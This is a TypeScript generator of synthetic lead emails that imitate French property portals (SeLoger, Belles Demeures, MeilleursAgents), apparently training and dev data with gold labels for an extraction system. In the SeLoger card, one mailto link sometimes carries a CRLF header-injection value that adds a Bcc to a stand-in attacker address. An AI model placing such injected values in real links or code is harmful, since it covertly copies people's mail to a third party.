/** SeLoger and the luxury portal of the same house. The phrases are the portals' own. */
import { draft, type Family, positive } from '../family.ts'
import { escapeHtml, html, lines, type Safe, safe } from '../html.ts'
import { legalLines, pageOf } from '../operators/noise.ts'
import { leadGold, type Scene } from '../scene.ts'

const CARD = 'name email phone message ref title town postcode price surface rooms transaction'

function typeLine({ property }: Scene): readonly string[] {
  return [property.typeName, ...(property.rooms ? [`• ${property.rooms} pièce${property.rooms > 1 ? 's' : ''}`] : []), `• ${property.surface} m²`]
}

const subjectOf = ({ property }: Scene) => (property.transaction === 'rent' ? 'Un locataire est intéressé par un de vos biens' : 'Un acquéreur est intéressé par un de vos biens')

/** The portal has printed +330 before national numbers. */
const telLink = ({ person, random }: Scene) => person.phone && (person.phone.e164.startsWith('+33') && random.chance(0.2) ? `+330${person.phone.e164.slice(3)}` : person.phone.e164)

const goldOf = (scene: Scene) => leadGold(scene, { portal: 'seloger', says: CARD.replace('title ', ''), silentIntent: 'information' })

export const selogerCard: Family = positive({
  id: 'aviv-card', side: 'train', about: 'SeLoger: nested tables, place in capitals, e-mail twice, reply button, tel link',
  make(scene) {
    const { random, person, property, message, price } = scene
    const tel = telLink(scene)
    const content = html`<table><tr><td><b>${person.fullName}</b> s'intéresse à ce</td></tr><tr><td>bien</td></tr></table>
<table><tr><td>${price}</td></tr><tr><td>${property.place.town.toUpperCase()}</td></tr><tr><td>,</td></tr><tr><td>${property.place.postcode}</td></tr>
${typeLine(scene).map((line) => html`<tr><td>${line}</td></tr>`)}<tr><td>Ref. de l'annonce :</td></tr><tr><td>${property.ref}</td></tr></table>
<table><tr><td>${person.fullName}</td></tr><tr><td><a href="mailto:${person.email}">${person.email}</a></td></tr><tr><td>${person.email}</td></tr></table>
<table><tr><td>Découvrir</td></tr><tr><td>son</td></tr><tr><td>projet</td></tr></table>
${message ? html`<table><tr><td>${lines(message.text)}</td></tr></table>` : safe('')}
<table><tr><td><a href="mailto:${person.email}${random.chance(0.05) ? '%0D%0ABcc:%20pirate@mechant.example' : '?subject=Votre%20demande'}">Répondre</a></td>${tel ? html`<td><a href="tel:${tel}">${random.pick([person.phonePrinted, 'Appeler', tel])}</a></td>` : safe('')}</tr></table>`
    return draft(scene, {
      from: { name: 'SeLoger', address: random.pick(['noreply@lead.seloger.com', 'contact@lead.seloger.com']) }, subject: subjectOf(scene), needsHtml: true,
      html: pageOf(random, content, { brand: 'SeLoger', host: 'seloger.com', teaser: subjectOf(scene) }), gold: goldOf(scene),
    })
  },
})

export const selogerText: Family = positive({
  id: 'aviv-broken-text', side: 'dev', about: 'SeLoger card as its text part: one word a line, blank lines, links in angle brackets',
  make(scene) {
    const { random, person, property, message, price } = scene
    const tel = telLink(scene)
    const text = [
      `${person.fullName} s'intéresse à ce`, '', 'bien', '', price, '', property.place.town.toUpperCase(), ',', property.place.postcode, '', ...typeLine(scene), '', "Ref. de l'annonce :", property.ref, '', person.fullName, '',
      `${person.email} <mailto:${person.email}>`, person.email, '', 'Découvrir', 'son', 'projet', '', ...(message ? [message.text, ''] : []), `Répondre <mailto:${person.email}>`, ...(tel ? [`${person.phonePrinted} <tel:${tel}>`] : []), '', ...legalLines(random, 'SeLoger'),
    ].join('\n')
    return draft(scene, { from: { name: 'SeLoger', address: 'noreply@lead.seloger.com' }, subject: subjectOf(scene), text, gold: goldOf(scene) })
  },
})

const bullet = (label: string, value: string | null): Safe => (value === null ? safe('') : html`<li>${label} ${value}</li>`)

export const luxury: Family = positive({
  id: 'aviv-luxury-labels', side: 'train', about: 'Belles Demeures: customer number first (a trap), bullets, labelled contact',
  wants: { transaction: 'sale' },
  make(scene) {
    const { random, person, property, message, price } = scene
    const content = html`<p>Identifiant client : ${random.digits(6)}</p><h2>Nouveau contact sur votre annonce ${property.ref}</h2>
<ul><li>${property.typeName}</li><li>${property.surface} m²</li>${property.rooms ? html`<li>${property.rooms} pièces</li>` : safe('')}<li>${price}</li></ul>
<p>${property.place.town.toUpperCase()}, ${property.place.postcode}</p><p>Ref. de l'annonce : ${property.ref}</p>
${message ? html`<p>Message du contact</p><p>${lines(message.text)}</p>` : safe('')}
<ul>${bullet('Nom :', person.fullName)}${bullet('Email :', person.email)}${bullet('Téléphone :', person.phonePrinted)}</ul>`
    return draft(scene, {
      from: { name: 'Belles Demeures', address: 'noreply@lead.bellesdemeures.com' }, subject: `Nouveau contact sur votre annonce ${property.ref}`, html: pageOf(random, content, { brand: 'Belles Demeures', host: 'bellesdemeures.com' }),
      gold: leadGold(scene, { portal: 'belles-demeures', says: CARD.replace('title ', '') }),
    })
  },
})

export const sellerCard: Family = positive({
  id: 'seller-card', side: 'dev', about: 'an owner who wants a price (MeilleursAgents-like): his own property, his project, no reference',
  wants: { acts: ['valuation'], silence: 0.5 },
  make(scene) {
    const { random, person, property, message } = scene
    const { town, postcode } = property.place
    const row = (label: string, value: string | null) => (value === null ? '' : `<tr><td width="40%"><b>${label}</b></td><td>${escapeHtml(value)}</td></tr>`)
    const content = html`<h1>${person.fullName} souhaite vous confier son projet</h1><p>Ce propriétaire a estimé son bien sur notre site et demande à être contacté.</p>
<table>${safe(row('Projet', random.pick(['Vente dans les 3 mois', 'Vente sous 6 mois', 'Simple curiosité', 'Vente urgente'])))}${safe(row('Adresse du bien', `${property.street}, ${postcode} ${town}`))}${safe(row('Type', property.typeName))}${safe(row('Surface', `${property.surface} m²`))}${safe(row('Pièces', property.rooms === null ? null : String(property.rooms)))}</table>
<h3>Propriétaire</h3><table>${safe(row('Nom', person.fullName))}${safe(row('Mobile', person.phonePrinted))}${safe(row('Mail', person.email))}${message ? safe(row('Commentaire', message.text).replaceAll('\n', '<br>')) : safe('')}</table>`
    return draft(scene, {
      from: { name: 'MeilleursAgents', address: 'ne-pas-repondre@meilleursagents.com' }, subject: `${person.fullName} souhaite vous confier son projet de vente à ${town}`, html: pageOf(random, content, { brand: 'MeilleursAgents', host: 'meilleursagents.com' }),
      gold: leadGold(scene, { portal: 'meilleursagents', says: 'name email phone message town postcode surface rooms', silentIntent: 'valuation' }),
    })
  },
})
